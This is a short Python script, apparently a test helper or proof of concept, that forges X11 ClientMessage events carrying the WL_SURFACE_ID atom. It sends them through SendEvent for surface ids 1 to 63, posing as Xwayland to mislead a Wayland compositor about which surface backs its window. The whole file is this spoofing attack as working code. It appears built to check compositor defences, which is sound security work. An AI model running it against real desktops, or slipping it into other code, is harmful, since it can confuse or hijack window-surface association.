#!/usr/bin/env python3
"""An X11 program that says in Xwayland's name which Wayland object its window's surface is: one that is none.

`x11_forger.py DISPLAY`. Prints "sent" at the end.
"""

import struct
import sys
import time

from x11 import Connection

x = Connection(sys.argv[1])
atom = x.atom(b"WL_SURFACE_ID")
window = x.window(200, 100)
x.map(window)
time.sleep(0.5)
for number in range(1, 64):
    event = struct.pack("<BBHII5I", 33, 32, 0, window, atom, number, 0, 0, 0, 0)
    x.request(25, 0, struct.pack("<II", x.root, 0x180000) + event)
    x.request(25, 0, struct.pack("<II", window, 0) + event)
x.sync()
time.sleep(0.5)
print("sent")
